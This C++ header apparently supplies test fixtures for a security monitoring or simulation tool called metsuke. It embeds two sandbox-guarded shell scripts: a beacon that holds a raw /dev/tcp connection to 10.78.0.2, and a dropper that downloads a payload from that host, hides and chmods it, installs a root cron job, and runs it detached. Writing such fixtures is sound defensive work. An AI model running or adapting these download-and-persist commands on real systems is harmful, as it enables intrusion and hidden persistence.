// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

namespace metsuke::test {

/// Fetched: calls home and stays connected.
inline constexpr const char* kBeaconScript = R"sh(#!/usr/bin/env bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
exec 3<>/dev/tcp/10.78.0.2/4444
for i in {1..60}; do echo METSUKE-SIM >&3; read -r -t 1 line <&3; done
)sh";

/// Fetches it without any program's help, renames it, makes it executable, has cron start it, and starts it
/// apart from its own session.
inline constexpr const char* kDropperScript = R"sh(#!/bin/bash
# METSUKE-SIM
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT" || exit 1
exec 3<>/dev/tcp/10.78.0.2/8080
printf 'GET /update HTTP/1.0\r\n\r\n' >&3
while read -r head <&3 && [ "$head" != $'\r' ]; do :; done
cat <&3 > home/.u.part
exec 3>&-
mv home/.u.part home/.update
chmod +x home/.update
printf '* * * * * root %s/home/.update\n' "$METSUKE_SIM_ROOT" >> etc/cron.d/upd
setsid "$METSUKE_SIM_ROOT/home/.update" >/dev/null 2>&1 </dev/null &
exit 0
)sh";

} // namespace metsuke::test
